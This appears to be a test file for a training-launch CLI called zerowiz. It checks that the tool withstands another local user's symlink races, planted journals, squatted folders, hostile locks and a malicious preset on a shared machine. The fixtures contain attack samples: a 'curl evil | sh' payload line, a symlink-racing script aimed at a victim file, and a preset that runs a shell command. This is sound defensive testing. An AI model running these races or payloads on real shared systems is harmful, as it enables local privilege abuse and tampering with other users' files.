/**
 * A shared GPU box: another local user (nobody, a real second uid) plants directories, links, journals and
 * locks where zerowiz writes, in a 1777 scratch folder, while the user (root here, as in CI) runs the built
 * bin. zerowiz writes only inside the folders the user named or its own run directory, never follows a
 * link it did not make, never trusts a directory, a journal or a lock another user owns (one line naming
 * the path, its owner and the fix), and keeps run records private to the user whatever the umask.
 * Every victim file must come out byte for byte as it was.
 */
import { execFile, spawnSync } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readFileSync,
  readdirSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { expectOneLineError } from '../helpers/cli.js';
import { FAKE_ACCELERATE, TWO_STEP } from '../helpers/launch.js';
import { NEIGHBOUR_SKIP, asNobody, nodeAsNobody, sharedFolder, startAsNobody } from '../helpers/neighbour.js';
import { BIN } from '../helpers/pty.js';
import { saveRunJson, type RunRecord } from '../../src/records/record.js';

const roots: string[] = [];
afterEach(() => {
  for (const r of roots.splice(0)) rmSync(r, { recursive: true, force: true, maxRetries: 10, retryDelay: 100 });
});

beforeAll(() => {
  if (!existsSync(BIN)) throw new Error('dist/zerowiz.js is missing: run `node scripts/build.mjs` first');
});

const VICTIM_TEXT = 'export SECRET_PLACE=1 # the victim file: it must come out byte for byte as it was\n';

/** A shared 1777 folder, and a 0600 victim file of the user outside it. */
function box(): { root: string; shared: string; victim: string } {
  const { root, shared } = sharedFolder();
  roots.push(root);
  const victim = join(root, 'victim.bashrc');
  writeFileSync(victim, VICTIM_TEXT, { mode: 0o600 });
  return { root, shared, victim };
}

function zerowiz(
  args: string[],
  cwd: string,
  opts: { env?: Record<string, string>; umask?: string } = {},
): Promise<{ code: number; stdout: string; stderr: string }> {
  const env = {
    ...process.env,
    NO_COLOR: '1',
    FAKE_ACCELERATE_STEP_MS: '0',
    ZEROWIZ_LOCK_WAIT_MS: '3000',
    ...opts.env,
  };
  const [cmd, argv] = opts.umask
    ? ['sh', ['-c', `umask ${opts.umask} && exec "$0" "$@"`, process.execPath, BIN, ...args]]
    : [process.execPath, [BIN, ...args]];
  return new Promise((res) => {
    execFile(cmd as string, argv as string[], { cwd, env, timeout: 60_000 }, (err, stdout, stderr) => {
      res({ code: err ? ((err as { code?: number }).code ?? 1) : 0, stdout, stderr });
    });
  });
}

/** A launch directory in the shared folder: the stand-in training script, owned by the user. */
function launchDir(shared: string): string {
  const d = join(shared, 'proj');
  mkdirSync(d);
  chmodSync(d, 0o1777);
  writeFileSync(join(d, 'train.py'), '# stand-in\n');
  return d;
}

const mode = (p: string) => lstatSync(p).mode & 0o7777;

/**
 * The launch's refusal: exit 2, one line and its hint once the config files it wrote into the folder the
 * preset names (`wrote ...` lines, allowed: that folder is the user's choice) are left aside.
 */
function expectRefusal(r: { code: number; stdout: string; stderr: string }, pattern: RegExp): void {
  const stderr = r.stderr
    .split('\n')
    .filter((l) => !/^zerowiz: (wrote|updated|unchanged) /.test(l))
    .join('\n');
  expectOneLineError({ ...r, stderr }, pattern);
  expect(stderr).toMatch(/\n {2}hint: /);
}

describe.skipIf(NEIGHBOUR_SKIP !== null)(
  `another user on the machine${NEIGHBOUR_SKIP ? ` (skipped: ${NEIGHBOUR_SKIP})` : ''}`,
  () => {
    it('a .zerowiz/runs made by another user: launch refuses before any step, naming the folder, its owner and the fix', async () => {
      const { shared, victim } = box();
      const d = launchDir(shared);
      nodeAsNobody(
        "const fs=require('fs');fs.mkdirSync(process.argv[1]+'/.zerowiz/runs',{recursive:true,mode:0o777});fs.chmodSync(process.argv[1]+'/.zerowiz',0o777);fs.chmodSync(process.argv[1]+'/.zerowiz/runs',0o777);",
        [d],
      );
      // The attacker races every new run directory: swaps it for one of theirs holding links named like
      // zerowiz's temporary files, aimed at the victim file.
      const racer = startAsNobody(
        `const fs=require('fs'),path=require('path');const runs=process.argv[1],victim=process.argv[2];let n=0;
       const plant=(name)=>{const dir=path.join(runs,name);if(name.startsWith('.'))return;try{fs.renameSync(dir,path.join(runs,'.taken-'+(n++)));}catch{}
         try{fs.mkdirSync(dir,{mode:0o777});}catch{}
         for(const p of fs.readdirSync('/proc').filter((x)=>/^\\d+$/.test(x)))for(const f of ['run.json','commands.sh','accelerate_config.yaml','ds_config.json'])try{fs.symlinkSync(victim,path.join(dir,f+'.tmp-'+p));}catch{}};
       fs.watch(runs,(e,name)=>{if(name)plant(String(name));});setInterval(()=>{for(const x of fs.readdirSync(runs))if(!x.startsWith('.'))plant(x);},1);`,
        [join(d, '.zerowiz', 'runs'), victim],
      );
      try {
        for (let k = 0; k < 3; k++) {
          const r = await zerowiz(['launch', TWO_STEP, '--accelerate', FAKE_ACCELERATE, '--no-tui'], d, {
            env: { FAKE_ACCELERATE_LOG: join(d, `argv-${k}.jsonl`) },
          });
          expectRefusal(r, /\.zerowiz.* belongs to user nobody \(uid \d+\), not to you/);
          expect(existsSync(join(d, `argv-${k}.jsonl`)), 'a step ran').toBe(false);
        }
      } finally {
        racer.kill('SIGKILL');
      }
      expect(readFileSync(victim, 'utf8')).toBe(VICTIM_TEXT);
      expect(mode(victim)).toBe(0o600);
    }, 90_000);

    it('a .zerowiz that is another user’s symbolic link is refused the same way', async () => {
      const { shared, victim } = box();
      const d = launchDir(shared);
      nodeAsNobody(
        "const fs=require('fs');fs.mkdirSync(process.argv[1]+'/theirs/runs',{recursive:true});fs.symlinkSync(process.argv[1]+'/theirs',process.argv[2]+'/.zerowiz');",
        [shared, d],
      );
      const r = await zerowiz(['launch', TWO_STEP, '--accelerate', FAKE_ACCELERATE, '--no-tui'], d, {
        env: { FAKE_ACCELERATE_LOG: join(d, 'argv.jsonl') },
      });
      expectRefusal(r, /\.zerowiz is a symbolic link/);
      expect(existsSync(join(d, 'argv.jsonl'))).toBe(false);
      expect(readdirSync(join(shared, 'theirs', 'runs'))).toEqual([]);
      expect(readFileSync(victim, 'utf8')).toBe(VICTIM_TEXT);
    });

    it('saving run.json never follows a link another user planted at a temporary name, even in a record folder others can write', () => {
      const { shared, victim } = box();
      const dir = join(shared, 'legacy-record');
      mkdirSync(dir);
      chmodSync(dir, 0o777);
      // Planted for this very process: `run.json.tmp-<pid>` was the temporary name of every save.
      asNobody('ln', ['-s', victim, join(dir, `run.json.tmp-${process.pid}`)]);
      expect(lstatSync(join(dir, `run.json.tmp-${process.pid}`)).isSymbolicLink()).toBe(true);
      const rec = { dir, json: { version: 1, id: 'x', steps: [] } } as unknown as RunRecord;
      saveRunJson(rec);
      expect(readFileSync(victim, 'utf8')).toBe(VICTIM_TEXT);
      const st = lstatSync(join(dir, 'run.json'));
      expect(st.isFile()).toBe(true);
      expect(JSON.parse(readFileSync(join(dir, 'run.json'), 'utf8')).id).toBe('x');
      expect(st.mode & 0o077).toBe(0);
    });

    it('a journal another user planted is refused with one line naming it, its owner and the fix; the file it names stays as it was', async () => {
      const { shared, victim } = box();
      const out = join(shared, 'configs');
      mkdirSync(out);
      chmodSync(out, 0o1777);
      nodeAsNobody(
        `const fs=require('fs');const [out,victim]=process.argv.slice(1);
       fs.writeFileSync(out+'/.payload','curl evil | sh\\n');
       fs.writeFileSync(out+'/.zerowiz-999999-abcdef.journal',JSON.stringify({pid:999999,entries:[{path:victim,temp:out+'/.payload',backup:null}]}));`,
        [out, victim],
      );
      const r = await zerowiz(['generate', '--mode', '3', '--num-processes', '2', '--out', out], shared);
      expectOneLineError(r, /\.zerowiz-999999-abcdef\.journal.* belongs to (user )?nobody/);
      expect(r.stderr).toMatch(/hint: /);
      expect(readFileSync(victim, 'utf8')).toBe(VICTIM_TEXT);
      expect(existsSync(join(out, 'accelerate_config.yaml'))).toBe(false);
      // Their files are left as they are: zerowiz never removes another user's files.
      expect(existsSync(join(out, '.payload'))).toBe(true);
    });

    it("the user's own journal that names a file outside its folder is not followed", async () => {
      const { shared, victim } = box();
      const out = join(shared, 'configs');
      mkdirSync(out);
      writeFileSync(join(out, '.stray'), 'not the victim\n');
      writeFileSync(
        join(out, '.zerowiz-999999-abcdef.journal'),
        JSON.stringify({ pid: 999999, entries: [{ path: victim, temp: join(out, '.stray'), backup: null }] }),
      );
      const r = await zerowiz(['generate', '--mode', '3', '--num-processes', '2', '--out', out], shared);
      expect(readFileSync(victim, 'utf8')).toBe(VICTIM_TEXT);
      expectOneLineError(r, /\.zerowiz-999999-abcdef\.journal.*outside/);
    });

    it('a folder another user swapped for a link: generate --out through it is refused, the folder it leads to gets nothing', async () => {
      const { root, shared } = box();
      const victimDir = join(root, 'victim-dir');
      mkdirSync(victimDir, { mode: 0o700 });
      writeFileSync(join(victimDir, 'accelerate_config.yaml'), VICTIM_TEXT, { mode: 0o600 });
      asNobody('ln', ['-s', victimDir, join(shared, 'configs')]);
      const r = await zerowiz(
        ['generate', '--mode', '3', '--num-processes', '2', '--out', join(shared, 'configs')],
        shared,
      );
      expectOneLineError(r, /configs is a symbolic link of user nobody/);
      expect(readdirSync(victimDir)).toEqual(['accelerate_config.yaml']);
      expect(readFileSync(join(victimDir, 'accelerate_config.yaml'), 'utf8')).toBe(VICTIM_TEXT);
    });

    it('a folder another user made first (squatting the name in a 1777 folder): nothing is written into it', async () => {
      const { shared } = box();
      nodeAsNobody("require('fs').mkdirSync(process.argv[1], { mode: 0o777 })", [join(shared, 'configs')]);
      const r = await zerowiz(
        ['generate', '--mode', '3', '--num-processes', '2', '--out', join(shared, 'configs')],
        shared,
      );
      expectOneLineError(r, /configs belongs to user nobody \(uid \d+\), not to you/);
      expect(readdirSync(join(shared, 'configs'))).toEqual([]);
    });

    it('a lock another user planted as a link to /dev/zero is refused at once, not read', async () => {
      const { shared } = box();
      const out = join(shared, 'configs');
      mkdirSync(out);
      chmodSync(out, 0o1777);
      asNobody('ln', ['-s', '/dev/zero', join(out, '.zerowiz.lock')]);
      const r = await zerowiz(['generate', '--mode', '3', '--num-processes', '2', '--out', out], shared, {
        env: { ZEROWIZ_LOCK_WAIT_MS: '30000' },
      });
      expectOneLineError(r, /\.zerowiz\.lock.*(symbolic link|belongs to)/);
      expect(lstatSync(join(out, '.zerowiz.lock')).isSymbolicLink()).toBe(true);
    }, 60_000);

    it('a stale lock of another user is named with its owner, and left as it is', async () => {
      const { shared } = box();
      const out = join(shared, 'configs');
      mkdirSync(out);
      chmodSync(out, 0o1777);
      const lock = JSON.stringify({
        pid: 999999,
        host: spawnSync('hostname').stdout.toString().trim(),
        start: '1',
        nonce: 'n',
        time: 0,
      });
      nodeAsNobody("require('fs').writeFileSync(process.argv[1], process.argv[2])", [join(out, '.zerowiz.lock'), lock]);
      const r = await zerowiz(['generate', '--mode', '3', '--num-processes', '2', '--out', out], shared);
      expectOneLineError(r, /\.zerowiz\.lock belongs to (user )?nobody/);
      expect(readFileSync(join(out, '.zerowiz.lock'), 'utf8')).toBe(lock);
    });

    it("another user's presets folder is not trusted: list names it and skips it, launch and save refuse it", async () => {
      const { shared } = box();
      const xdg = join(shared, 'xdg');
      nodeAsNobody(
        `const fs=require('fs');const d=process.argv[1]+'/zerowiz/presets';fs.mkdirSync(d,{recursive:true,mode:0o777});
       fs.writeFileSync(d+'/evil.yaml','name: evil\\nanswers:\\n  num_processes: 1\\nsteps:\\n  - name: train\\n    uses_config: false\\n    args: [-c, "touch /tmp/PWNED-by-nobody"]\\n');`,
        [xdg],
      );
      const env = { XDG_CONFIG_HOME: xdg, HOME: shared };
      const list = await zerowiz(['preset', 'list'], shared, { env });
      expect(list.code).toBe(0);
      expect(list.stdout).not.toMatch(/\bevil\b/);
      expect(list.stderr).toMatch(/zerowiz.* belongs to user nobody/);
      expectOneLineError(
        await zerowiz(['launch', 'evil', '--dry-run', '--accelerate', FAKE_ACCELERATE], shared, { env }),
        /belongs to user nobody/,
      );
      expectOneLineError(
        await zerowiz(['preset', 'save', 'mine', '--mode', '2'], shared, { env }),
        /belongs to user nobody/,
      );
      expect(existsSync(join(xdg, 'zerowiz', 'presets', 'mine.yaml'))).toBe(false);
    });

    it('run records are private to the user whatever the umask: folders 0700, files 0600 (commands.sh 0700)', async () => {
      const { shared } = box();
      const d = launchDir(shared);
      const r = await zerowiz(['launch', TWO_STEP, '--accelerate', FAKE_ACCELERATE, '--no-tui'], d, { umask: '000' });
      expect(r.code, r.stderr).toBe(0);
      expect(mode(join(d, '.zerowiz'))).toBe(0o700);
      expect(mode(join(d, '.zerowiz', 'runs'))).toBe(0o700);
      const [id] = readdirSync(join(d, '.zerowiz', 'runs'));
      const rec = join(d, '.zerowiz', 'runs', id!);
      expect(mode(rec)).toBe(0o700);
      for (const f of readdirSync(rec)) {
        const want = f === 'commands.sh' ? 0o700 : 0o600;
        if (f.endsWith('.log')) continue; // the step logs are the runner's; the 0700 folder keeps them private
        expect(`${f} ${(mode(join(rec, f)) & 0o777).toString(8)}`).toBe(`${f} ${want.toString(8)}`);
      }
      const peek = asNobody('cat', [join(rec, 'run.json')]);
      expect(peek.status).not.toBe(0);
      expect(statSync(rec).uid).toBe(0);
    }, 60_000);
  },
);
